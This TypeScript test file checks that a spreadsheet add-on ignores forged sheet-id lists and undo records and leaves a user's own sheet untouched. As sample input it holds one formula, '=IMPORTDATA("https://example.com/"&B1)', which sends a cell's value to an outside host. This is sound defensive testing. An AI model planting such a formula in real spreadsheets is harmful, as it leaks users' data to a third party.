import type { Sheet } from '../../local/host';
import { fingerprint } from '../../src/sheet/fingerprints/fingerprint';
import { type AddOnWorld, addOnWorlds } from '../support/add-on-world';
import { storedValue } from '../support/stored-value';

const makeWorld = addOnWorlds({ articles: 2, days: 7, ordersPerDay: 1 }, { datasets: ['cards', 'orders'] });

const OWN = 'Мой расчёт';
const SIDE = 12;
const cellsBut = (first: string) => Array.from({ length: SIDE }, (_row, r) => Array.from({ length: SIDE }, (_cell, c) => (r + c === 0 ? first : `моё ${r}:${c}`)));

type Ids = Record<string, number>;

/** A refreshed file with a sheet of the user's, filled from A1. */
async function withOwnSheet(first = 'моё'): Promise<{ world: AddOnWorld; sheet: Sheet; own: () => unknown[][] | null }> {
  const world = await makeWorld();
  world.connect();
  world.refresh();
  const sheet = world.document.model.addSheet(OWN, undefined, 100, 26);
  cellsBut(first).forEach((cells, r) => cells.forEach((cell, c) => { if (cell !== '') sheet.values.set(r + 1, c + 1, cell); }));
  const { workbook } = world.document;
  return { world, sheet, own: () => (workbook.sheetNames().includes(OWN) ? workbook.rows(OWN) : null) };
}

/** What an editor may write into the list of our sheets, which lies in the file. */
const FORGED: [string, (ids: Ids, own: number) => Ids][] = [
  ['as one that is being made', (ids, own) => ({ ...Object.fromEntries(Object.entries(ids).filter(([tag]) => tag !== 'orders')), '⏳ orders': own })],
  ['as one of a dataset', (ids, own) => ({ ...ids, orders: own })],
  ['as the journal', (ids, own) => ({ ...ids, journal: own })],
  ['as the page of the first steps', (ids, own) => ({ ...ids, start: own })],
  ['as all at once', (ids, own) => Object.fromEntries(Object.keys(ids).map((tag) => [tag, own]))],
];

it.each(FORGED)('a sheet of the user\'s that the list names %s keeps every cell', async (_, forge) => {
  const { world, sheet, own } = await withOwnSheet();
  const now = storedValue<{ ids: Ids; isSettled: boolean }>(world.document, 'sheets');
  world.document.properties.entries.set('sheets', `v1 ${JSON.stringify({ ...now, ids: forge(now.ids, sheet.id) })}`);
  for (let day = 0; day < 2; day += 1) {
    world.host.clock.advance(25 * 3_600_000);
    world.refresh();
  }
  expect(own()).toEqual(cellsBut('моё'));
});

it.each<[string, (ids: Ids) => Ids]>([
  ['nothing', () => ({})],
  ['all only as being made', (ids) => Object.fromEntries(Object.entries(ids).map(([tag, id]) => [`⏳ ${tag}`, id]))],
  ['one dataset only as being made', (ids) => Object.fromEntries(Object.entries(ids).map(([tag, id]) => [tag === 'orders' ? `⏳ ${tag}` : tag, id]))],
  ['all but one dataset', (ids) => Object.fromEntries(Object.entries(ids).filter(([tag]) => tag !== 'orders'))],
])('a settled list that names %s makes no second sheet, and the refresh goes on in the first', async (_, forge) => {
  const { world } = await withOwnSheet();
  const [names, rows] = [world.document.workbook.sheetNames(), world.rows('Заказы').length];
  const { ids } = storedValue<{ ids: Ids }>(world.document, 'sheets');
  world.document.properties.entries.set('sheets', `v1 ${JSON.stringify({ ids: forge(ids), isSettled: true })}`);
  world.host.clock.advance(25 * 3_600_000);
  expect(world.refresh().map(({ state }) => state)).toEqual(['done', 'done']);
  expect(world.document.workbook.sheetNames()).toEqual(names);
  expect(world.rows('Заказы').length).toBeGreaterThanOrEqual(rows);
});

it.each([0.5, -1, 1e300, 2 ** 53])('an id of a sheet that cannot be one, %d, is none', async (id) => {
  const { world } = await withOwnSheet();
  const now = storedValue<{ ids: Ids; isSettled: boolean }>(world.document, 'sheets');
  world.document.properties.entries.set('sheets', `v1 ${JSON.stringify({ ...now, ids: { ...now.ids, orders: id } })}`);
  world.host.clock.advance(25 * 3_600_000);
  expect(world.refresh().map(({ state }) => state)).toEqual(['done', 'done']);
});

/** What an editor may write where the last rewriting of formulas is kept, with marks that they have made themselves. */
const FORMULA = '=IMPORTDATA("https://example.com/"&B1)';
const area = { row: 1, column: 1, rows: SIDE, columns: SIDE };
const KEPT: [string, string, object, string][] = [
  ['freezeUndo', 'that died', { ...area, mark: 'x', isDone: false }, ''],
  ['freezeUndo', 'with the mark of the cells', { ...area, mark: fingerprint(cellsBut('моё').flat()), isDone: true }, 'моё'],
  ['freezeUndo', 'with the mark of one cell', { ...area, rows: 1, columns: 1, mark: fingerprint(['моё']), isDone: true }, 'моё'],
  ['stampUndo', 'of an empty cell', { row: 50, column: 1, after: '' }, 'моё'],
];

it.each(KEPT)('a forged %s %s writes nothing, whoever opens the menu', async (name, _, kept, first) => {
  const { world, sheet, own } = await withOwnSheet(first);
  const { document, host, user } = world;
  document.properties.entries.set(name, `v1 ${JSON.stringify([{ sheetId: sheet.id, text: FORMULA, ...kept }])}`);
  for (const menu of ['menuFreezeFormulas', 'menuStampFormulas']) {
    document.ui.answers.push({ button: 'OK' }, { button: 'OK' });
    host.run(menu, [], { document, user, mode: 'menu' });
  }
  host.run('undoStamps', [], { document, user, mode: 'sidebar' });
  expect([own(), document.workbook.formulas(OWN).flat().filter((text) => text !== '')]).toEqual([cellsBut(first), []]);
});
